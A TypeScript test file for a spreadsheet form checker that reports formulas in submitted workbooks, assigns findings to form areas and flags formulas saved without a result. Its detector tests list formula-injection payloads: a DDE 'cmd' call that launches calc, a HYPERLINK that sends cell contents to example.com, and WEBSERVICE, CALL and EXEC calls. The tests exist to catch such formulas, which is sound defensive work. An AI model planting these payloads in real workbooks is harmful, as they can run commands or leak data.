import { checkFile, checkSheet } from "../../../src/form";
import type { FileReport } from "../../../src/form/finding";
import { formulaFindings, withFindings } from "../../../src/form/formulaFindings";
import type { GridSnapshot } from "../../../src/form/grid";
import { gridFromText, sampleGrid } from "../../support/sampleGrid";
import { finding } from "../plans/support";

/*
 * Formulas in submitted workbooks: copies keep their values and say so; formulas saved without a
 * result are named as such instead of being checked as blanks.
 */
describe("formulaFindings", () => {
  const one = (formula: string, value = "1") =>
    formulaFindings([{ sheet: "表", cell: "E9", formula, value }])[0];

  it("names a formula the copy keeps as its value, in both languages", () => {
    const f = one("SUM(C4:C5)", "11.46");
    expect(f).toMatchObject({ code: "copy.formula-as-value", severity: "info", sheet: "表" });
    expect(f).toMatchObject({ cell: "E9", row: 8, col: 4 });
    expect(f.message).toBe("单元格含公式 =SUM(C4:C5)，副本中只保留其值“11.46”。");
    expect(f.messageEn).toBe(
      'The cell holds the formula =SUM(C4:C5); the copy keeps only its value "11.46".'
    );
  });

  it.each([
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com/?"&B19,"点击")',
    "hyperlink (B1)",
    "[1]Sheet1!A1",
    "WEBSERVICE(A1)",
    "FILTERXML(A1,A2)",
    "CALL(A1)",
    "REGISTER.ID(A1)",
    "EXEC(A1)",
    "RTD(A1)",
    "IMPORTXML(A1)",
    "IMAGE(A1)",
  ])("warns of a formula reaching outside the workbook: =%s", (formula) => {
    const f = one(formula, "");
    expect(f).toMatchObject({ code: "copy.formula-outside", severity: "warning" });
    expect(f.message).toContain(`=${formula}，副本中只保留其值“”；请核实原表。`);
    expect(f.messageEn).toContain("reaches outside the workbook");
  });

  it.each(["SUM(A1:A3)", "MYHYPERLINK(A1)", "C4+C5", 'IF(A1>0,"是","否")'])(
    "does not take =%s for one",
    (formula) => {
      expect(one(formula).code).toBe("copy.formula-as-value");
    }
  );

  it("shortens a long formula or value to 80 characters and an ellipsis", () => {
    const long = `${"A1+".repeat(30)}1`;
    const f = one(long, "9".repeat(81));
    expect(f.data.formula).toBe(`${long.slice(0, 80)}…`);
    expect(f.data.value).toBe(`${"9".repeat(80)}…`);
    expect(one("A".repeat(80), "9".repeat(80)).data).toEqual({
      formula: "A".repeat(80),
      value: "9".repeat(80),
    });
  });

  it("gives one finding per formula, in the order given", () => {
    const cells = formulaFindings([
      { sheet: "甲", cell: "B2", formula: "1+1", value: "2" },
      { sheet: "乙", cell: "A1", formula: "cmd|'x'!A0", value: "" },
    ]).map((f) => [f.sheet, f.cell, f.code]);
    expect(cells).toEqual([
      ["甲", "B2", "copy.formula-as-value"],
      ["乙", "A1", "copy.formula-outside"],
    ]);
  });
});

describe("withFindings", () => {
  // Form 1 is A3:E33 on the sheet "sample", form 2 A37:E60. Checked in each test, so that a
  // mutation run counts the tests that reach the code.
  let report: FileReport;
  let moved: FileReport;
  beforeEach(() => {
    report = checkFile("sample.txt", [sampleGrid()]);
    moved = withFindings(report, [
      finding("sample", "E33", "info", "inside.corner"),
      finding("sample", "A3", "info", "inside.top"),
      finding("sample", "F10", "warning", "right.of.form"),
      finding("sample", "A35", "warning", "between.forms"),
      finding("sample", "B2", "error", "above.form"),
      finding("别的表", "B10", "error", "other.sheet"),
      finding("sample", "C40", "error", "form.two"),
    ]);
  });
  const codes = (list: { code: string }[]) => list.map((f) => f.code);

  it("gives a finding to the form whose area holds its cell, edges included", () => {
    expect(codes(moved.forms[0].findings)).toEqual([
      "inside.top",
      ...codes(report.forms[0].findings),
      "inside.corner",
    ]);
    expect(codes(moved.forms[1].findings)).toEqual([
      "form.two",
      ...codes(report.forms[1].findings),
    ]);
    expect(moved.forms.slice(2)).toEqual(report.forms.slice(2));
  });

  it("keeps the others on the file, in row and column order", () => {
    expect(codes(moved.findings)).toEqual([
      "above.form",
      "other.sheet",
      "right.of.form",
      "between.forms",
    ]);
  });

  it("keeps the file's own findings, and leaves to the file a cell left of a form", () => {
    const shifted = { ...sampleGrid(), sheet: "右移", origin: { row: 0, col: 1 } };
    const report = checkFile("shifted.txt", [shifted]);
    expect(report.forms[0].range).toBe("B3:F33");
    const withLoose = { ...report, findings: [finding("右移", "A1", "info", "file.own")] };
    const moved = withFindings(withLoose, [finding("右移", "A10", "warning", "left.of.form")]);
    expect(codes(moved.findings)).toEqual(["file.own", "left.of.form"]);
    expect(moved.forms[0].findings).toEqual(report.forms[0].findings);
  });

  it("leaves the report it was given as it was", () => {
    expect(report.findings).toEqual([]);
    expect(report.forms[0].findings.some((f) => f.code === "inside.top")).toBe(false);
  });
});

describe("formulas saved without a result", () => {
  /** The sample with formulas saved without a result at these cells: they read as blanks. */
  function withFormulaAt(cells: { row: number; col: number }[], grid = sampleGrid()): GridSnapshot {
    const values = grid.values.map((row) => [...row]);
    for (const { row, col } of cells) if (col < (values[row]?.length ?? 0)) values[row][col] = null;
    return { ...grid, values, uncalculated: cells };
  }
  let plain: ReturnType<typeof checkSheet>;
  beforeEach(() => {
    plain = checkSheet(sampleGrid());
  });

  it("says the cell cannot be checked instead of what the rules said about the blank", () => {
    const checked = checkSheet(withFormulaAt([{ row: 29, col: 4 }]));
    const onCell = checked.forms[0].findings.filter((f) => f.cell === "E30");
    expect(onCell.map((f) => [f.code, f.severity])).toEqual([
      ["read.formula-uncalculated", "warning"],
    ]);
    expect(onCell[0].message).toContain("没有保存计算结果");
    expect(onCell[0].messageEn).toContain("never saved");
    const others = (findings: { cell: string; code: string }[]) =>
      findings.filter((f) => f.cell !== "E30").map((f) => `${f.code}@${f.cell}`);
    expect(others(checked.forms[0].findings)).toEqual(others(plain.forms[0].findings));
    expect(checked.forms.slice(1)).toEqual(plain.forms.slice(1));
  });

  it("counts a form's corners as the form's, and keeps findings in sheet order", () => {
    const corners = [
      { row: 32, col: 4 },
      { row: 2, col: 0 },
    ];
    const checked = checkSheet({ ...sampleGrid(), uncalculated: corners });
    const cells = checked.forms[0].findings.map((f) => f.cell);
    expect(cells[0]).toBe("A3");
    expect(cells[cells.length - 1]).toBe("E33");
    expect(checked.forms[0].findings[0].code).toBe("read.formula-uncalculated");
  });

  it("ignores formulas outside every form on a sheet that has forms", () => {
    const outside = [
      { row: 33, col: 0 },
      { row: 10, col: 5 },
      { row: 1, col: 0 },
    ];
    expect(checkSheet(withFormulaAt(outside))).toEqual(checkSheet(sampleGrid()));
  });

  it("on a sheet with no form, counts them and names the first, as a reason none was found", () => {
    const notes = gridFromText("会议纪要\t无\n\t\n\t", "纪要");
    const cells = [
      { row: 2, col: 1 },
      { row: 1, col: 0 },
      { row: 1, col: 1 },
      { row: 2, col: 0 },
    ];
    const checked = checkSheet({ ...notes, uncalculated: cells });
    const last = checked.findings[checked.findings.length - 1];
    expect(checked.forms).toEqual([]);
    expect(last).toMatchObject({ code: "read.formula-uncalculated", cell: "A2", sheet: "纪要" });
    expect(last.data).toEqual({ sheet: "纪要", count: 4, cell: "A2" });
    expect(checked.findings.slice(0, -1)).toEqual(checkSheet(notes).findings);
  });

  it("names the leftmost first when the first formulas share a row", () => {
    const notes = gridFromText("会议纪要\t无\n\t\n\t", "纪要");
    const cells = [
      { row: 1, col: 0 },
      { row: 1, col: 1 },
      { row: 2, col: 0 },
    ];
    const [finding] = checkSheet({ ...notes, uncalculated: cells }).findings.slice(-1);
    expect(finding.cell).toBe("A2");
    const reversed = [
      { row: 1, col: 1 },
      { row: 1, col: 0 },
    ];
    expect(checkSheet({ ...notes, uncalculated: reversed }).findings.slice(-1)[0].cell).toBe("A2");
    const lowerLeft = [
      { row: 1, col: 1 },
      { row: 2, col: 0 },
    ];
    expect(checkSheet({ ...notes, uncalculated: lowerLeft }).findings.slice(-1)[0].cell).toBe("B2");
    expect(checkSheet({ ...notes, uncalculated: [] })).toEqual(checkSheet(notes));
  });

  it("ignores a formula left of a form that does not start in column A", () => {
    const shifted = { ...sampleGrid(), origin: { row: 0, col: 1 } };
    expect(checkSheet({ ...shifted, uncalculated: [{ row: 10, col: 0 }] })).toEqual(
      checkSheet(shifted)
    );
  });

  it("changes nothing when every formula had a result", () => {
    expect(checkSheet({ ...sampleGrid(), uncalculated: [] })).toEqual(plain);
  });
});
